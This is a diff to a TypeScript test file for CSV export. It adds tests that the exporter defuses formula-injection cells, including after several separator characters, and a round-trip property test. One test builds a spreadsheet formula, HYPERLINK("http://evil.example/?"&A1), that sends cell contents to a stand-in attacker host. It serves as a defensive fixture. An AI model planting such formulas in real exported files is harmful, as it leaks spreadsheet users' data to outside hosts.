@@ -2,7 +2,7 @@
 import { parse } from 'csv-parse/sync';
 import fc from 'fast-check';
 import { describe, expect, it } from 'vitest';
-import { BYTE_ORDER_MARK, csvText, tabText, withoutFormula } from '../../../shared/csv/write.ts';
+import { BYTE_ORDER_MARK, csvText, tabText, withFormula, withoutFormula } from '../../../shared/csv/write.ts';
 
 const rowsOf = (text: string): string[][] => parse(text, { relaxColumnCount: true });
 
@@ -11,7 +11,8 @@ describe('CSV', () => {
     'makes text of %j',
     (hostile) => {
       const [, [cell = ''] = []] = rowsOf(csvText({ columns: ['A'], rows: [[hostile]] }));
-      expect(cell).toBe(`'${hostile}`);
+      expect(cell).toMatch(/^'/);
+      expect(withFormula(cell)).toBe(hostile);
     },
   );
 
@@ -31,6 +32,26 @@ describe('CSV', () => {
         const [, row] = rowsOf(csvText({ columns, rows: [cells] }));
         expect(row).toEqual(cells.map(withoutFormula));
       }),
+    );
+  });
+
+  it.each([';', '\t', '|', '\n', '\r\n'])(
+    'begins no formula behind %j either, where cells are separated by it',
+    (separator) => {
+      for (const start of ['=', '+', '-', '@', ' =', '"=', '＝', '\u00a0='])
+        expect(withoutFormula(`x${separator}${start}HYPERLINK("http://evil.example/?"&A1)`)).toContain(
+          `${separator}'${start}`,
+        );
+    },
+  );
+
+  it('a text read back from a table is what it was', () => {
+    const text = fc.string({ unit: fc.constantFrom('=', '+', "'", '"', ';', '\t', '\n', ' ', 'a', '@', '|', '\r') });
+    fc.assert(
+      fc.property(fc.oneof(text, fc.string()), (one) => {
+        expect(withFormula(withoutFormula(one))).toBe(one);
+      }),
+      { numRuns: 2000 },
     );
   });
 
